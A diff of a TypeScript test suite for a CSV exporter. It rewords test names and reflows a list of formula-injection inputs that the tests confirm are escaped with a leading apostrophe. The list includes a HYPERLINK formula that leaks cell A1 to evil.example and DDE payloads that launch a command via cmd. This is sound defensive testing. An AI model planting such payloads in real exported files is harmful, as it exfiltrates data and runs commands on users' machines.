@@ -8,40 +8,31 @@ const spanish = csvFormatOf('es-ES');
 const bare = (text: string) => text.replace(/^\uFEFF/, '');
 const oneCell = (cell: Cell) => readCsv(bare(toCsv([[cell]], english)), ',')[0]?.[0];
 
-/** What spreadsheets, and what looks for holes in them, begin a formula with. */
+/** Formula prefixes of spreadsheets and of vulnerability scanners. */
 const PAYLOADS = [
-  '=1+1',
-  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
-  "=cmd|' /C calc'!A0",
-  '+1+1',
-  '+34 600 000 000',
-  '-2+3+cmd|calc!A0',
-  '@SUM(A1:A9)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝1+1',
+  ...['=1+1', '=HYPERLINK("https://evil.example/?leak="&A1,"Open")', "=cmd|' /C calc'!A0", '+1+1'],
+  ...['+34 600 000 000', '-2+3+cmd|calc!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1'],
 ];
 
-test('a file begins with the mark of UTF-8 and each line ends with CRLF', () => {
+test('a file begins with the UTF-8 byte order mark, and each line ends with CRLF', () => {
   expect(toCsv([['Ciudad', 'Población'], ['León']], english)).toBe('\uFEFFCiudad,Población\r\nLeón\r\n');
 });
 
-test('the language of the numbers decides on the decimal sign and on what stands between cells', () => {
+test('the language sets the decimal sign and the separator', () => {
   const rows = [['Height', 11.5, 12500]];
   expect(bare(toCsv(rows, english))).toBe('Height,11.5,12500\r\n');
   expect(bare(toCsv(rows, spanish))).toBe('Height;11,5;12500\r\n');
 });
 
-test('negative and tiny numbers stay numbers, and what is not there stays empty', () => {
+test('negative and tiny numbers stay numbers, and missing values stay empty', () => {
   expect(bare(toCsv([[-3.25, 0, undefined, 1]], spanish))).toBe('-3,25;0;;1\r\n');
 });
 
-test.each(PAYLOADS)('a spreadsheet does not take %j for a formula', (payload) => {
+test.each(PAYLOADS)('a spreadsheet does not read %j as a formula', (payload) => {
   expect(oneCell(payload)).toBe(`'${payload}`);
 });
 
-test('no cell gets a formula into one of its own, whichever separator the file is read with', () => {
+test('no separator splits a cell so that a formula starts a new one', () => {
   for (const payload of PAYLOADS) {
     const text = bare(toCsv([[`Hall 3;${payload},${payload}\r\n${payload}`]], english));
     expect(readCsv(text, ',')).toEqual(readCsv(text, ';'));
@@ -49,7 +40,7 @@ test('no cell gets a formula into one of its own, whichever separator the file i
   }
 });
 
-test('what stands in the middle of a text is left as it is', () => {
+test('formula signs in the middle of a text are unchanged', () => {
   expect(oneCell('Sector A-1, 3 = 4 "docks" @ gate')).toBe('Sector A-1, 3 = 4 "docks" @ gate');
 });
 
@@ -59,7 +50,7 @@ const anyText = fc.oneof(
   fc.constantFrom(...PAYLOADS),
 );
 
-test('whatever the cells, a strict reader of RFC 4180 gives them back, formulas behind an apostrophe', () => {
+test('a strict RFC 4180 reader restores any cells, with formulas behind an apostrophe', () => {
   const table = fc.array(fc.array(anyText, { minLength: 1, maxLength: 5 }), { maxLength: 6 });
   fc.assert(
     fc.property(table, fc.constantFrom(english, spanish), (rows, format) => {
@@ -75,7 +66,7 @@ test('whatever the cells, a strict reader of RFC 4180 gives them back, formulas 
   );
 });
 
-test('whatever the number, a reader of its language gives it back', () => {
+test('a reader of the file’s language restores any number', () => {
   fc.assert(
     fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (number) => {
       const [[cell = ''] = []] = readCsv(bare(toCsv([[number]], spanish)), ';');
